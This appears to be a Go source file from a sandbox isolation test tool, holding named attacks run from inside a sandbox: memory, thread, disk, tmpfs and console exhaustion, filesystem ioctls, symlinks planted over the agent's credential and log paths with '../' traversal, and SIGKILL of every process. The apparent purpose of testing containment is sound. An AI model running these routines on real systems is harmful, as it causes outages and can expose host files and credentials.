package main

import (
	"errors"
	"fmt"
	"os"
	"runtime/debug"
	"strings"
	"sync"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

var _ = register(map[string]func(*attacker) error{
	"memory": useMemory, "shm": useSharedMemory, "processes": useProcesses, "volume": fillVolume, "tmpfs": fillTmpfs, "console": fillConsole, "cpu": burn,
	"links": makeLinks, "kill": killAll,
})

// useMemory takes memory until it is stopped, and says how much it has.
func useMemory(*attacker) error {
	var all [][]byte
	for mib := 0; mib < 8192; mib += 16 {
		b := make([]byte, 16<<20)
		for i := 0; i < len(b); i += 4096 {
			b[i] = 1
		}
		all = append(all, b)
		fmt.Fprintf(os.Stderr, "has %d MiB\n", mib+16)
	}
	return fmt.Errorf("%d MiB could be used", 16*len(all))
}

// useSharedMemory does the same with files in memory.
func useSharedMemory(*attacker) error {
	block := make([]byte, 16<<20)
	for i := range block {
		block[i] = 1
	}
	f, err := os.Create("/dev/shm/attack")
	if err != nil {
		return err
	}
	defer func() { _ = os.Remove(f.Name()) }()
	for mib := 0; mib < 8192; mib += 16 {
		if _, err := f.Write(block); err != nil {
			return err
		}
		fmt.Fprintf(os.Stderr, "has %d MiB\n", mib+16)
	}
	return errors.New("8192 MiB could be used")
}

// useProcesses starts threads until the kernel refuses, which ends the program.
func useProcesses(*attacker) error {
	debug.SetMaxThreads(1 << 20)
	var wait sync.WaitGroup
	for range 20000 {
		wait.Go(func() { _ = syscall.Pause() })
	}
	time.Sleep(20 * time.Second)
	return errors.New("20000 threads could be started")
}

// fillVolume takes all the space of the volume, tries to have more, and gives it back.
func fillVolume(a *attacker) error {
	var st unix.Statfs_t
	if err := unix.Statfs("/data", &st); err != nil {
		return err
	}
	total := int64(st.Blocks) * st.Bsize
	a.fact("total", fmt.Sprint(total))
	f, err := os.Create("/data/attack-fill")
	if err != nil {
		return err
	}
	defer func() { _ = os.Remove("/data/attack-fill") }()
	defer f.Close()
	a.own("take 100 MiB", unix.Fallocate(int(f.Fd()), 0, 0, 100<<20))
	a.try("take twice the volume", unix.Fallocate(int(f.Fd()), 0, 0, 2*total))
	taken := int64(0)
	for step := int64(64 << 20); step >= 1<<20; {
		if unix.Fallocate(int(f.Fd()), 0, taken, step) == nil {
			taken += step
		} else {
			step /= 2
		}
	}
	written, block := int64(0), make([]byte, 1<<20)
	for err == nil && written < 64<<20 {
		var n int
		n, err = f.WriteAt(block, taken+written)
		written += int64(n)
	}
	a.fact("taken", fmt.Sprint(taken+written))
	a.try(fmt.Sprintf("write beyond the end of the volume, after %d MiB", (taken+written)>>20), err)
	const growData, growLog, fitrim = 0x4010586e, 0x4008586f, 0xc0185879
	grow := struct {
		blocks  uint64
		percent uint32
		_       uint32
	}{st.Blocks * 4, 25, 0}
	dir, err := os.Open("/data")
	if err != nil {
		return err
	}
	defer dir.Close()
	for name, request := range map[string]uintptr{"grow the file system": growData, "grow its log": growLog, "trim it": fitrim} {
		_, _, e := unix.Syscall(unix.SYS_IOCTL, dir.Fd(), request, uintptr(unsafe.Pointer(&grow)))
		a.try(name, errno(0, 0, e))
	}
	return nil
}

// fillTmpfs writes to the file systems in memory.
func fillTmpfs(a *attacker) error {
	for _, dir := range []string{"/tmp", "/run"} {
		f, err := os.Create(dir + "/attack-fill")
		if err != nil {
			return err
		}
		written, block := 0, make([]byte, 1<<20)
		for written < 300 && err == nil {
			if _, err = f.Write(block); err == nil {
				written++
			}
		}
		f.Close()
		if err := os.Remove(f.Name()); err != nil {
			return err
		}
		a.note("write to "+dir, true, written > 0, fmt.Sprint(written, " MiB"))
		a.try("write 300 MiB to "+dir, err)
	}
	err := error(nil)
	n := 0
	for ; n < 1000 && err == nil; n++ {
		var f *os.File
		if f, err = os.Create(fmt.Sprint("/dev/attack-", n)); err == nil {
			_, err = f.Write(make([]byte, 4096))
			f.Close()
		}
	}
	for i := range n {
		_ = os.Remove(fmt.Sprint("/dev/attack-", i))
	}
	a.try("fill /dev", err)
	return nil
}

// fillConsole writes to the file of the host that takes the sandbox's output.
func fillConsole(a *attacker) error {
	f, err := os.OpenFile("/proc/1/fd/2", os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	line := []byte(strings.Repeat("attack ", 9) + "\n")
	written := 0
	for written < 64<<20 && err == nil {
		var n int
		n, err = f.Write(line)
		written += n
	}
	a.note("write to the console", true, written > 0, fmt.Sprint(written, " bytes"))
	a.try("write 64 MiB to the console", err)
	a.own("say that the console is larger", f.Truncate(64<<20)) // which takes no memory
	a.try("reserve space for the console", unix.Fallocate(int(f.Fd()), 0, 0, 64<<20))
	return nil
}

// burn keeps eight threads busy for 3 s.
func burn(a *attacker) error {
	var wait sync.WaitGroup
	began := time.Now()
	for range 8 {
		wait.Go(func() {
			for n := 0; ; n++ {
				if n%1000 == 0 && time.Since(began) > 3*time.Second {
					return
				}
			}
		})
	}
	wait.Wait()
	var use unix.Rusage
	if err := unix.Getrusage(unix.RUSAGE_SELF, &use); err != nil {
		return err
	}
	used := time.Duration(use.Utime.Nano() + use.Stime.Nano())
	cores := used.Seconds() / time.Since(began).Seconds()
	a.note("use a core", true, cores > 0.02, fmt.Sprintf("%.2f cores", cores))
	a.note("use more cores than the flavor has", false, cores > 1.15, fmt.Sprintf("%.2f cores", cores))
	return nil
}

// makeLinks replaces what the agent keeps on the volume by links that lead out of it, for whoever of the host should follow them.
func makeLinks(a *attacker) error {
	for link, target := range map[string]string{
		"/data/trove/identity/credential.json.tmp": a.in["target"], "/data/attack-link": a.in["target"], "/run/trove/engine.log": a.in["target"],
		"/data/trove/attack-up": "../../../../../../../../" + a.in["target"], "/run/attack-link": a.in["target"],
	} {
		_ = os.Remove(link)
		a.own("make the link "+link, os.Symlink(target, link))
		a.try("follow the link "+link, readFirst(link))
	}
	return nil
}

// killAll ends every process of the sandbox, the agent and the engine among them.
func killAll(a *attacker) error {
	a.own("end all other processes", unix.Kill(-1, unix.SIGKILL))
	a.try("end the first process", func() error {
		if err := unix.Kill(1, unix.SIGKILL); err != nil {
			return err
		}
		time.Sleep(300 * time.Millisecond)
		return errors.New("it was not ended: this is still running")
	}())
	return nil
}
